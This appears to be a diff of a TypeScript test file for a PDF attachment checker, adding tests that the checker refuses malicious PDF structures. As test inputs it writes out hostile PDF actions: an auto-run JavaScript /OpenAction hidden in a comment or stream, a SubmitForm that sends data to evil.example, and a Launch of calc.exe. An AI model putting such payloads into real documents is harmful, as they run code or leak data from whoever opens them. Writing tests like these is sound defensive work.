@@ -1,8 +1,8 @@
 import zlib from "zlib"
 import PDFDocument from "pdfkit"
 import sharp from "sharp"
-import { buildPdf, PAGE_OBJECTS, stream } from "../../../test/pdf-files"
-import { checkAttachment } from "../attachment-check"
+import { buildPdf, freezingPdf, PAGE_OBJECTS, pdfWithHiddenObject, stream } from "../../../test/pdf-files"
+import { inspectAttachment } from "../attachment-check"
 import { checkPdfStructure, OBJECT_STREAMS_MAX_BYTES } from "./pdf-check"
 
 const [CATALOG, ...REST] = PAGE_OBJECTS
@@ -37,7 +37,7 @@ describe("checkPdfStructure: what people send", () => {
   it("accepts a scanned PDF, a plain one, one with object streams and one updated incrementally", async () => {
     const scanned = await scannedPdf()
     expect(scanned.length).toBeGreaterThan(100_000)
-    expect(await checkAttachment(scanned)).toEqual({ ok: true, format: "pdf" })
+    expect(await inspectAttachment(scanned)).toEqual({ ok: true, format: "pdf" })
     expect(checkPdfStructure(buildPdf(PAGE_OBJECTS))).toBeNull()
     const packed = buildPdf(withCatalog("/Outlines 7 0 R"), { packed: ["<< /Type /Outlines /Count 0 >>"] })
     expect(checkPdfStructure(packed)).toBeNull()
@@ -91,7 +91,7 @@ describe("checkPdfStructure: documents that lie", () => {
     expect(checkPdfStructure(buildPdf(PAGE_OBJECTS, { appended: html }))).toBe("attachmentUnsafe")
     const disguised = buildPdf(PAGE_OBJECTS, { appended: `${html}startxref\n9\n%%EOF\n` })
     expect(checkPdfStructure(disguised)).toBe("attachmentUnsafe")
-    expect(await checkAttachment(disguised)).toEqual({ ok: false, code: "attachmentUnsafe" })
+    expect(await inspectAttachment(disguised)).toEqual({ ok: false, code: "attachmentUnsafe" })
     const zip = Buffer.concat([Buffer.from("PK\x03\x04", "latin1"), Buffer.alloc(40)])
     expect(checkPdfStructure(buildPdf(PAGE_OBJECTS, { appended: zip }))).toBe("attachmentUnsafe")
     const between = buildPdf(PAGE_OBJECTS, { betweenRevisions: html, update: { 5: "<< /Type /Font >>" } })
@@ -115,5 +115,35 @@ describe("checkPdfStructure: documents that lie", () => {
     )
     const deep = `${"[".repeat(200)}${"]".repeat(200)}`
     expect(checkPdfStructure(buildPdf([...PAGE_OBJECTS, deep]))).toBe("attachmentDamaged")
+  })
+})
+
+describe("checkPdfStructure: what a reader reaches through the cross-reference table (issue #50)", () => {
+  const catalog = "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>"
+  it("refuses an /OpenAction written where a reading in order sees a comment or a stream's data", () => {
+    for (const where of ["comment", "stream"] as const) {
+      for (const xrefStream of [false, true]) {
+        const pdf = pdfWithHiddenObject([catalog, ...REST], { number: 1, object: catalog, in: where }, { xrefStream })
+        expect([where, xrefStream, checkPdfStructure(pdf)]).toEqual([where, xrefStream, "attachmentUnsafe"])
+      }
+    }
+  })
+  it("refuses XFA forms and actions that fetch or send data: ImportData, SubmitForm, Launch", () => {
+    for (const entries of [
+      "/AcroForm << /Fields [] /XFA 6 0 R >>",
+      "/OpenAction << /S /ImportData /F (datos.fdf) >>",
+      "/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>",
+      "/OpenAction << /S /Launch /F (calc.exe) >>",
+    ]) {
+      expect([entries, checkPdfStructure(buildPdf([...withCatalog(entries), stream("<xdp:xdp/>")]))]).toEqual([
+        entries,
+        "attachmentUnsafe",
+      ])
+    }
+  })
+  it("stops at its deadline on a file that would take seconds to read", () => {
+    const started = Date.now()
+    expect(checkPdfStructure(freezingPdf(), Date.now() + 200)).toBe("attachmentUnchecked")
+    expect(Date.now() - started).toBeLessThan(2000)
   })
 })
